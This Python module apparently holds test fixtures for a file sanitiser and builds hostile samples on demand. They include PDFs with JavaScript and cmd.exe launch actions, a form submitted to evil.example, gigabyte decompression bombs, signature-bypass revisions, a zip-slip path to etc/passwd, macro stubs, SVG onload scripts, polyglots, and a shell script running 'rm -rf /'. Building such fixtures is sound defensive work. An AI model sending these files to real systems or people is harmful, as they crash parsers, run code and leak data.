"""Files made to do harm, drawn up here so that none lies about. Each is a builder; the bytes come when they are asked for."""

import zipfile
import zlib
from functools import cache
from io import BytesIO
from itertools import count

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream, String
from PIL import Image

from dengji.common.documents.windows.rehearsal import EICAR


def pdf(change=lambda made: None, **manners):
    with pikepdf.new() as made:
        made.add_blank_page()
        change(made)
        out = BytesIO()
        made.save(out, **manners)
    return out.getvalue()


def picture(kind="JPEG", size=(60, 40), mode="RGB", **manners):
    out = BytesIO()
    Image.new(mode, size).save(out, kind, **manners)
    return out.getvalue()


def annotation(**facts):
    def change(made):
        note = made.make_indirect(Dictionary(Type=Name.Annot, Rect=[0, 0, 9, 9], **facts))
        made.pages[0].obj["/Annots"] = Array([note])

    return change


def action(kind, **more):
    return annotation(Subtype=Name.Link, A=Dictionary(S=Name("/" + kind), **more))


def root(key, value):
    return lambda made: made.Root.__setitem__(key, value)


def page(key, value):
    return lambda made: made.pages[0].obj.__setitem__(key, value)


def xobject(data, **facts):
    def change(made):
        one = Stream(made, data, Type=Name.XObject, **facts)
        made.pages[0].obj["/Resources"] = Dictionary(XObject=Dictionary(X=made.make_indirect(one)))
        made.pages[0].obj["/Contents"] = made.make_stream(b"/X Do")

    return change


def image(width, height):
    return {
        "Subtype": Name.Image,
        "Width": width,
        "Height": height,
        "BitsPerComponent": 8,
        "ColorSpace": Name.DeviceRGB,
    }


def script_in_a_stream(made):
    made.Root["/OpenAction"] = Dictionary(S=Name.JavaScript, JS=made.make_stream(b"app.alert(1)"))


def field(*, FT, **form):
    def change(made):
        one = made.make_indirect(Dictionary(FT=FT, T=String("a")))
        made.Root["/AcroForm"] = Dictionary(Fields=Array([one]), **form)

    return change


def swollen_font(made):
    program = Stream(made, swollen(1024), Filter=Name.FlateDecode)
    font = Dictionary(Type=Name.Font, FontDescriptor=Dictionary(FontFile2=program))
    made.pages[0].obj["/Resources"] = Dictionary(Font=Dictionary(F=font))


def content(data, **facts):
    return lambda made: made.pages[0].obj.__setitem__("/Contents", Stream(made, data, **facts))


@cache
def swollen(megabytes, levels=1):
    """So many megabytes of nothing, packed as small as can be."""
    engine = zlib.compressobj(9)
    packed = b"".join(engine.compress(b"\0" * 2**20) for _ in range(megabytes)) + engine.flush()
    for _ in range(levels - 1):
        packed = zlib.compress(packed, 9)
    return packed


def by_hand(*objects, trailer=b"/Root 1 0 R", head=b"%PDF-1.7\n"):
    """A PDF as somebody writes it who keeps to no rule of a library."""
    body, places = bytearray(head), []
    for number, one in enumerate(objects, start=1):
        places.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, one)
    return bytes(body) + table(places, len(body), trailer)


def table(places, at, trailer):
    rows = b"".join(b"%010d 00000 n \n" % place for place in places)
    size = len(places) + 1
    head = b"xref\n0 %d\n0000000000 65535 f \n" % size
    return head + rows + b"trailer\n<</Size %d %s>>\nstartxref\n%d\n%%%%EOF\n" % (size, trailer, at)


ROOT, PAGES = b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>"


def swollen_objects():
    """An object stream that swells from 1 MB to 1 GB."""
    packed = swollen(1024)
    head = (
        b"%PDF-1.5\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
    )
    told = b"3 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n" % len(packed)
    rows = b"".join(
        bytes(row) for row in ((0, 0, 0), (1, 0, 9), (1, 0, 53), (1, 0, len(head) % 256), (2, 3, 0))
    )
    stream = b"9 0 obj<</Type/XRef/W[1 1 1]/Size 5/Root 1 0 R/Length %d>>stream\n%s\nendstream endobj\n" % (
        len(rows),
        rows,
    )
    whole = head + told + packed + b"\nendstream endobj\n"
    return whole + stream + b"startxref\n%d\n%%%%EOF" % len(whole)


def many_pages(many):
    """So many pages out of one: the tree names the same leaf again and again."""
    kids = b" ".join([b"3 0 R"] * many)
    return by_hand(ROOT, b"<</Type/Pages/Kids[%s]/Count %d>>" % (kids, many), PAGE)


def deep_page_tree(levels):
    numbers = count(2)
    nodes = [
        b"<</Type/Pages/Kids[%d 0 R]/Count 1%s>>" % (here + 1, b"/Parent %d 0 R" % (here - 1) if here > 2 else b"")
        for here, _ in zip(numbers, range(levels), strict=False)
    ]  # fmt: skip
    leaf = b"<</Type/Page/Parent %d 0 R/MediaBox[0 0 9 9]>>" % (levels + 1)
    return by_hand(ROOT, *nodes, leaf)


def signed(extra=b"", gap=b"<00ff>"):
    """As a signed PDF looks from outside: the range that is signed, the signature in the gap, and what came later."""
    field = b"<</FT/Sig/T(s)/V 5 0 R/Type/Annot/Subtype/Widget/Rect[0 0 0 0]/F 132>>"
    catalog = b"<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[4 0 R]/SigFlags 3>>>>"
    holder = b"<</Type/Sig/Filter/Adobe.PPKLite/ByteRange[%s]/Contents %s>>"
    blank = b"%010d %010d %010d %010d"
    made = by_hand(catalog, PAGES, PAGE, field, holder % (blank % (0, 0, 0, 0), gap))
    start = made.index(b"/Contents ") + len(b"/Contents ")
    end = start + len(gap)
    return made.replace(blank % (0, 0, 0, 0), blank % (0, start, end, len(made) - end)) + extra


def later_revision(before, number, one):
    """What stands behind: another version of an object, and a table that points at it."""
    told = b"%d 0 obj\n%s\nendobj\n" % (number, one)
    at = len(before) + len(told)
    old = before.rindex(b"startxref\n")
    prev = before[old + 10 :].split(b"\n")[0]
    rows = b"xref\n%d 1\n%010d 00000 n \n" % (number, len(before))
    end = b"trailer\n<</Size 6/Root 1 0 R/Prev %s>>\nstartxref\n%d\n%%%%EOF\n" % (prev, at)
    return told + rows + end


def replaced_after_signing():
    before = signed()
    return before + later_revision(before, 3, PAGE.replace(b"200 200", b"400 400"))


def hidden_layer(**more):
    def change(made):
        layer = made.make_indirect(Dictionary(Type=Name.OCG, Name=String("x"), **more))
        shown = Dictionary(OFF=Array([] if more else [layer]))
        made.Root["/OCProperties"] = Dictionary(OCGs=Array([layer]), D=shown)

    return change


def zipped(**files):
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, data in files.items():
            made.writestr(name.replace("__", "/"), data)
    return out.getvalue()


def moving(kind):
    out, frames = BytesIO(), [Image.new("RGB", (30, 30), tone) for tone in ("red", "green", "blue")]
    frames[0].save(out, kind, save_all=True, append_images=frames[1:], duration=100)
    return out.getvalue()


def png_that_lies(width, height):
    """A head that announces a picture of that size, and hardly any dots behind it."""

    def piece(kind, data):
        return len(data).to_bytes(4) + kind + data + zlib.crc32(kind + data).to_bytes(4)

    head = width.to_bytes(4) + height.to_bytes(4) + bytes([8, 2, 0, 0, 0])
    return b"\x89PNG\r\n\x1a\n" + piece(b"IHDR", head) + piece(b"IDAT", swollen(1)) + piece(b"IEND", b"")


SCRIPT = Dictionary(S=Name.JavaScript, JS="app.alert(1)")
HTML = b"<!doctype html><script>alert(1)</script>"
DOES_SOMETHING = {
    "a script when opened": lambda: pdf(root("/OpenAction", SCRIPT)),
    "a script behind a link": lambda: pdf(action("JavaScript", JS="app.alert(1)")),
    "a script in a stream": lambda: pdf(script_in_a_stream),
    "a script in its names": lambda: pdf(root("/Names", Dictionary(JavaScript=Dictionary(Names=[])))),
    "a script when a page opens": lambda: pdf(page("/AA", Dictionary(O=SCRIPT))),
    "a script when it is closed": lambda: pdf(root("/AA", Dictionary(WC=SCRIPT))),
    "a program": lambda: pdf(action("Launch", F="cmd.exe")),
    "a program when opened": lambda: pdf(root("/OpenAction", Dictionary(S=Name.Launch, F="cmd.exe"))),
    "another file": lambda: pdf(action("GoToR", F="\\\\evil\\share")),
    "a file inside it": lambda: pdf(action("GoToE", F="x.pdf")),
    "a form that is sent away": lambda: pdf(action("SubmitForm", F="https://evil.example")),
    "data from elsewhere": lambda: pdf(action("ImportData", F="x.fdf")),
    "a second action": lambda: pdf(action("URI", Next=SCRIPT)),
    "an address when opened": lambda: pdf(root("/OpenAction", Dictionary(S=Name.URI, URI="https://evil.example"))),
    "a goal and then a script": lambda: pdf(root("/OpenAction", Dictionary(S=Name.GoTo, D=Array([]), Next=SCRIPT))),
    "a film that plays": lambda: pdf(action("Rendition", OP=0)),
    "a script packed away": lambda: pdf(root("/OpenAction", SCRIPT), object_stream_mode=pikepdf.ObjectStreamMode.generate),
    "a layer switched by a link": lambda: pdf(action("SetOCGState", State=Array([]))),
}  # fmt: skip
CARRIES_SOMETHING = {
    "a film": lambda: pdf(annotation(Subtype=Name.RichMedia)),
    "a screen": lambda: pdf(annotation(Subtype=Name.Screen)),
    "a model in space": lambda: pdf(annotation(Subtype=Name("/3D"))),
    "a file pinned to it": lambda: pdf(annotation(Subtype=Name.FileAttachment)),
    "an attachment": lambda: pdf(lambda made: made.attachments.__setitem__("a.exe", b"MZ")),
    "a portfolio": lambda: pdf(root("/Collection", Dictionary(View=Name.D))),
    "a form": lambda: pdf(root("/AcroForm", Dictionary(Fields=[]))),
    "a form of XML": lambda: pdf(root("/AcroForm", Dictionary(Fields=[], XFA="<xdp/>"))),
    "a field to fill in": lambda: pdf(field(FT=Name.Tx)),
    "a form for signing with XML": lambda: pdf(field(FT=Name.Sig, XFA="<x/>")),
    "a program of PostScript": lambda: pdf(xobject(b"quit", Subtype=Name.PS)),
    "a stream from another file": lambda: pdf(content(b"", F=String("/etc/passwd"), FFilter=Name.FlateDecode)),
}  # fmt: skip
TWO_FACES = {
    "a layer nobody sees": lambda: pdf(hidden_layer()),
    "a layer on paper only": lambda: pdf(hidden_layer(Usage=Dictionary(View=Dictionary(ViewState=Name.OFF)))),
    "a layer on the screen only": lambda: pdf(hidden_layer(Usage=Dictionary(Print=Dictionary(PrintState=Name.OFF)))),
    "another picture for the printer": lambda: pdf(xobject(b"\0" * 3, **image(1, 1), Alternates=Array([]))),
    "a page put over a signed one": replaced_after_signing,
    "words behind the signature": lambda: signed(extra=later_revision(signed(), 3, PAGE)),
    "a signature that leaves out a page": lambda: signed(gap=b"<00> 9 0 obj<</Type/Page>>endobj <00>"),
    "an archive behind it": lambda: pdf() + b"PK\x03\x04" + b"\0" * 30,
    "an archive that is whole": lambda: pdf() + zipped(a=b"x"),
    "a web page behind it": lambda: pdf() + HTML,
    "a web page before it": lambda: HTML + pdf(),
    "an archive before it": lambda: zipped(a=b"x") + pdf(),
}  # fmt: skip
TOO_MUCH = {
    "an object stream of a gigabyte": swollen_objects,
    "contents of a gigabyte": lambda: pdf(content(swollen(1024), Filter=Name.FlateDecode)),
    "contents packed twice": lambda: pdf(content(swollen(600, 2), Filter=Array([Name.FlateDecode] * 2))),
    "contents packed five times": lambda: pdf(content(swollen(300, 5), Filter=Array([Name.FlateDecode] * 5))),
    "a picture of no end inside": lambda: pdf(xobject(swollen(4), **image(60_000, 60_000), Filter=Name.FlateDecode)),
    "a font of a gigabyte": lambda: pdf(swollen_font),
    "two thousand pages": lambda: many_pages(2000),
    "a million pages": lambda: many_pages(1_000_000),
    "pages fifty thousand deep": lambda: deep_page_tree(50_000),
    "brackets a hundred thousand deep": lambda: by_hand(ROOT.replace(b">>", b"/X " + b"[" * 100_000 + b"]" * 100_000 + b">>"), PAGES, PAGE),
    "a tree that bites its tail": lambda: by_hand(ROOT, b"<</Type/Pages/Kids[2 0 R]/Count 1>>"),
    "a black picture of no end": lambda: picture("PNG", (20_000, 20_000), "1"),
    "a picture that lies": lambda: png_that_lies(2**31 - 1, 2**31 - 1),
    "a wide picture of no end": lambda: png_that_lies(60_000, 60_000),
    "more bytes than are taken": lambda: b"\xff\xd8\xff" + b"0" * 10_000_001,
}  # fmt: skip
TORN = {
    "no end": lambda: pdf().replace(b"%%EOF", b""),
    "its first half": lambda: pdf()[:200],
    "a table that points elsewhere": lambda: by_hand(ROOT, PAGES, PAGE).replace(b"startxref\n", b"startxref\n9"),
    "a table that points at itself": lambda: by_hand(ROOT, PAGES, PAGE, trailer=b"/Root 1 0 R/Prev 187"),
    "rows that lie": lambda: by_hand(ROOT, PAGES, PAGE).replace(b"0000000009", b"0000000999"),
    "locked away": lambda: pdf(encryption=pikepdf.Encryption(owner="o", user="u")),
    "locked": lambda: pdf(encryption=pikepdf.Encryption(owner="o", user="")),
    "no page at all": lambda: by_hand(ROOT, b"<</Type/Pages/Kids[]/Count 0>>"),
    "only its name": lambda: b"%PDF-1.7\n%%EOF",
    "random": lambda: b"%PDF-1.7\n" + bytes(range(256)) * 40 + b"%%EOF",
    "half a photograph": lambda: picture(size=(600, 400))[:700],
    "half a scan": lambda: picture("PNG", (600, 400))[:60],
    "a photograph's beginning": lambda: b"\xff\xd8\xff\xe0" + HTML,
    "nothing": lambda: b"",
}  # fmt: skip
OTHER_KINDS = {
    "a web page": lambda: HTML,
    "a web page named .jpg": lambda: b"\xef\xbb\xbf" + HTML,
    "a drawing that acts": lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "a drawing after a greeting": lambda: b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>',
    "an archive": lambda: zipped(a=b"x"),
    "an archive that swells": lambda: zipped(a=b"\0" * 2**24),
    "an archive that climbs": lambda: zipped(**{"..__..__etc__passwd": b"x"}),
    "a letter with a macro": lambda: zipped(**{"[Content_Types].xml": b"<Types/>", "word__vbaProject.bin": b"Sub AutoOpen()"}),
    "a table with a macro": lambda: zipped(**{"[Content_Types].xml": b"<Types/>", "xl__vbaProject.bin": b"Sub Auto_Open()"}),
    "an old letter": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
    "a rich text": lambda: rb"{\rtf1{\object\objocx{\*\objdata 00}}}",
    "a program for Windows": lambda: b"MZ\x90\x00" + b"\0" * 200,
    "a program for Linux": lambda: b"\x7fELF" + b"\0" * 200,
    "a script": lambda: b"#!/bin/sh\nrm -rf /\n",
    "EICAR": lambda: EICAR,
    "EICAR named .pdf": lambda: b"%PDF-1.7\n" + EICAR + b"\n%%EOF",
    "a gif": lambda: moving("GIF"),
    "a fax": lambda: picture("TIFF"),
    "a bitmap": lambda: picture("BMP"),
    "a picture of Apple's": lambda: b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + b"\0" * 200,
    "a program of PostScript alone": lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) (r) file\n",
    "a moving scan": lambda: moving("PNG"),
    "a moving photograph": lambda: moving("WEBP"),
}  # fmt: skip
HOSTILE = DOES_SOMETHING | CARRIES_SOMETHING | TWO_FACES | TOO_MUCH | TORN | OTHER_KINDS
# These are pictures for all that: they are taken, and what hides in them does not come through.
DRAWN_ANEW = {
    "a remark": lambda: picture(comment=b"<script>alert(1)</script>"),
    "a web page behind a photograph": lambda: picture() + HTML,
    "an archive behind a photograph": lambda: picture() + zipped(script=b"<script>"),
    "a text in a scan": lambda: picture("PNG") + b"<script>",
    "a PDF behind it": lambda: picture() + pdf(root("/OpenAction", SCRIPT)),
    "a colour table that is none": lambda: picture(icc_profile=b"<script>" * 100),
    "EICAR behind it": lambda: picture() + EICAR,
}  # fmt: skip
